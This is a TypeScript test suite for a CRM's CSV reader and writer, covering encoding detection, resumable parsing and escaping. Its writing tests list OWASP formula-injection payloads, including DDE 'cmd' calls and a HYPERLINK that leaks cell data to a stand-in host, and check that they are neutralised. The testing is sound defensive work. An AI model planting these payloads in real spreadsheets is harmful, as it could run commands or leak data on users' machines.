import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import {
  detectDelimiter,
  detectEncoding,
  previewCsv,
  readRecords,
  safeCell,
  toCsv,
  unguardCell,
  type SliceRecord,
} from '../../../shared/crm/csv';
import type { Delimiter, Encoding } from '../../../shared/crm/intake-contract';

/** A stream of `buf` in chunks of `size` bytes (chunk edges fall inside quotes, CRLFs and multi-byte chars). */
const chunked = (buf: Buffer, size: number) => {
  const parts: Buffer[] = [];
  for (let i = 0; i < buf.length; i += size) parts.push(buf.subarray(i, i + size));
  return Readable.from(parts);
};
async function all(buf: Buffer, from: number, opts: { delimiter: Delimiter; encoding: Encoding }, size = 64) {
  const out: SliceRecord[] = [];
  for await (const r of readRecords(chunked(buf.subarray(from), size), opts)) out.push(r);
  return out;
}

const UTF8 = Buffer.concat([
  Buffer.from([0xef, 0xbb, 0xbf]),
  Buffer.from(
    'Nume;E-mail;Telefon;Comentarii\r\n' +
      'Ștefan Popescu;stefan@alfa.ro;0722 123 456;"rând unu\r\nrând doi"\r\n' +
      '"Ana; Maria";ana@beta.ro;;"a spus ""da"""\r\n' +
      '\r\n' +
      'Ion Țurcanu;ion@gama.ro;+40 744 000 111;\r\n' +
      'Fără final;x@y.ro;;"ultim\nrând"',
    'utf8',
  ),
]);

describe('CSV preview', () => {
  it('detects the BOM, `;`, the header and the data offset past the header line', () => {
    const p = previewCsv(UTF8, true);
    expect(p.encoding).toBe('utf-8');
    expect(p.delimiter).toBe(';');
    expect(p.columns).toEqual(['Nume', 'E-mail', 'Telefon', 'Comentarii']);
    expect(p.dataOffset).toBe(3 + Buffer.byteLength('Nume;E-mail;Telefon;Comentarii\r\n'));
    expect(p.rows).toHaveLength(4);
    expect(p.rows[0]).toEqual(['Ștefan Popescu', 'stefan@alfa.ro', '0722 123 456', 'rând unu\r\nrând doi']);
    expect(p.rows[1]).toEqual(['Ana; Maria', 'ana@beta.ro', '', 'a spus "da"']);
  });

  it('drops the last (possibly cut) record of an incomplete head, also when a quote is left open', () => {
    const cut = UTF8.subarray(0, UTF8.indexOf('Fără') + 20);
    const p = previewCsv(cut, false);
    expect(p.rows.map((r) => r[0])).toEqual(['Ștefan Popescu', 'Ana; Maria', 'Ion Țurcanu']);
    const openQuote = UTF8.subarray(0, UTF8.indexOf('rând doi'));
    expect(previewCsv(openQuote, false).columns).toEqual(['Nume', 'E-mail', 'Telefon', 'Comentarii']);
  });

  it('tells windows-1250 from UTF-8 and decodes Romanian letters', () => {
    // "Şerban;Bârlad\r\nţară;ă\r\n" in windows-1250: Ş=AA â=E2 ţ=FE ă=E3
    const w = Buffer.from([
      0xaa, 0x65, 0x72, 0x62, 0x61, 0x6e, 0x3b, 0x42, 0xe2, 0x72, 0x6c, 0x61, 0x64, 0x0d, 0x0a, 0xfe, 0x61, 0x72, 0xe3,
      0x3b, 0xe3, 0x0d, 0x0a,
    ]);
    expect(detectEncoding(w)).toEqual({ encoding: 'windows-1250', bomLength: 0 });
    const p = previewCsv(w, true);
    expect(p.columns).toEqual(['Şerban', 'Bârlad']);
    expect(p.rows).toEqual([['ţară', 'ă']]);
    // a UTF-8 character cut by the window's end is still UTF-8
    const u = Buffer.from('Nume,Oraș\nA,Brașov', 'utf8');
    expect(detectEncoding(u.subarray(0, u.length - 4)).encoding).toBe('utf-8');
  });

  it('picks the delimiter outside quotes on the first line', () => {
    expect(detectDelimiter(Buffer.from('"a;b;c",d,e\n1;2;3;4'))).toBe(',');
    expect(detectDelimiter(Buffer.from('a\tb\tc\n'))).toBe('\t');
    expect(detectDelimiter(Buffer.from('single\n'))).toBe(',');
  });
});

describe('CSV slices resume at byte offsets', () => {
  const cases: [string, Buffer, Delimiter, Encoding][] = [
    ['utf-8, BOM, `;`, CRLF, quoted line breaks, an empty line, no final line break', UTF8, ';', 'utf-8'],
    ['`,` and LF', Buffer.from('a,b\n1,"x\ny"\n2,"z,w"\n3,\n', 'utf8'), ',', 'utf-8'],
    [
      'windows-1250 with a quoted CRLF',
      Buffer.from([
        0x41, 0x3b, 0x42, 0x0d, 0x0a, 0xaa, 0x3b, 0x22, 0xe3, 0x0d, 0x0a, 0xfe, 0x22, 0x0d, 0x0a, 0x78, 0x3b, 0xe2,
        0x0d, 0x0a,
      ]),
      ';',
      'windows-1250',
    ],
  ];

  it.each(cases)('%s', async (_label, buf, delimiter, encoding) => {
    const { dataOffset } = previewCsv(buf, true);
    const opts = { delimiter, encoding };
    const full = await all(buf, dataOffset, opts);
    expect(full.length).toBeGreaterThan(1);
    // The last record ends at the end of the file.
    expect(dataOffset + full[full.length - 1]!.bytes).toBe(buf.length);
    for (const size of [1, 2, 7, 4096]) {
      expect((await all(buf, dataOffset, opts, size)).map((r) => r.fields)).toEqual(full.map((r) => r.fields));
      for (let k = 0; k < full.length; k++) {
        const rest = await all(buf, dataOffset + full[k]!.bytes, opts, size);
        expect(rest.map((r) => r.fields)).toEqual(full.slice(k + 1).map((r) => r.fields));
      }
    }
  });

  it('decodes fields in the file’s encoding', async () => {
    const { dataOffset } = previewCsv(cases[2]![1], true);
    const rows = await all(cases[2]![1], dataOffset, { delimiter: ';', encoding: 'windows-1250' });
    expect(rows.map((r) => r.fields)).toEqual([
      ['Ş', 'ă\r\nţ'],
      ['x', 'â'],
    ]);
  });

  it('stops early when the loop breaks, and the offset of the last record taken resumes exactly', async () => {
    const lines = ['id;name', ...Array.from({ length: 500 }, (_, i) => `${i};"nume ${i}\nlinia 2"`)].join('\r\n');
    const buf = Buffer.from(lines, 'utf8');
    const { dataOffset } = previewCsv(buf, true);
    const seen: string[] = [];
    let offset = dataOffset;
    for (let slice = 0; slice < 100 && offset < buf.length; slice++) {
      let n = 0;
      for await (const r of readRecords(chunked(buf.subarray(offset), 97), { delimiter: ';', encoding: 'utf-8' })) {
        seen.push(r.fields[0]!);
        if (++n === 37) {
          offset += r.bytes;
          break;
        }
        if (offset + r.bytes === buf.length) offset = buf.length;
      }
    }
    expect(seen).toEqual(Array.from({ length: 500 }, (_, i) => String(i)));
  });

  it('reports a malformed record and goes on', async () => {
    const problems: string[] = [];
    const buf = Buffer.from('a;b\n1;2\n"x"y"z;3\n4;5\n', 'utf8');
    const out: string[][] = [];
    for await (const r of readRecords(chunked(buf.subarray(4), 5), {
      delimiter: ';',
      encoding: 'utf-8',
      onProblem: (p) => problems.push(p.message),
    }))
      out.push(r.fields);
    expect(out[0]).toEqual(['1', '2']);
    expect(out[out.length - 1]).toEqual(['4', '5']);
    expect(out.length + problems.length).toBe(3);
  });
});

describe('CSV writing', () => {
  it('writes CRLF rows with a BOM, quoting delimiters, quotes and line breaks', () => {
    const text = toCsv(
      [
        ['name', 'note'],
        ['Ștefan', 'a,b'],
        ['x', 'say "hi"\nbye'],
      ],
      { bom: true },
    );
    expect(text.startsWith('\uFEFFname,note\r\n')).toBe(true);
    expect(text).toContain('Ștefan,"a,b"\r\n');
    expect(text).toContain('x,"say ""hi""\nbye"\r\n');
  });
  // OWASP CSV injection payloads: every one must come out starting with the apostrophe.
  const payloads = [
    '=1+2',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    '\t=1+2',
    '\r=1+2',
    '-1+1',
    '+1',
    '-',
    '@',
    '=',
    '-1,5',
    '-1.234,56',
    '-1e5',
    '+40 722 123 456',
    '-12.5 RON',
  ];
  it.each(payloads)('neutralises the formula %j with a leading apostrophe', (payload) => {
    expect(safeCell(payload)).toBe(`'${payload}`);
  });
  it('keeps a cell that is wholly a plain number, and ordinary text, as it is', () => {
    for (const n of ['-12', '-12.5', '0', '42', '3.14']) expect(safeCell(n)).toBe(n);
    expect(safeCell(-3.25)).toBe('-3.25');
    expect(safeCell(7)).toBe('7');
    expect(safeCell('Ștefan')).toBe('Ștefan');
    expect(safeCell('a=b')).toBe('a=b');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });
  it('unguardCell gives back every payload (export then import is lossless); other apostrophes stay', () => {
    for (const payload of payloads) expect(unguardCell(safeCell(payload))).toBe(payload);
    expect(unguardCell("'Ion")).toBe("'Ion");
    expect(unguardCell("O'Neil")).toBe("O'Neil");
  });
  it('is idempotent (a guarded cell is not guarded twice)', () => {
    expect(safeCell(safeCell('=1+2'))).toBe("'=1+2");
  });
  it('guards every cell toCsv writes, header and numbers included', () => {
    const text = toCsv([
      ['row', '=field'],
      [-4, "-2+3+cmd|' /C calc'!A0"],
      [7, '+1+HYPERLINK("http://evil.example")'],
    ]);
    expect(text).toBe(
      'row,\'=field\r\n-4,\'-2+3+cmd|\' /C calc\'!A0\r\n7,"\'+1+HYPERLINK(""http://evil.example"")"\r\n',
    );
  });
  it('is the only CSV writer: no other source file imports csv-stringify', () => {
    const files = execFileSync('git', ['ls-files', '*.ts', '*.tsx', '*.mjs', '*.js'], { encoding: 'utf8' })
      .split('\n')
      .filter((f) => f && !f.startsWith('test/'));
    const writers = files.filter((f) => /from 'csv-stringify|require\('csv-stringify/.test(readFileSync(f, 'utf8')));
    expect(writers).toEqual(['shared/crm/csv.ts']);
  });
});
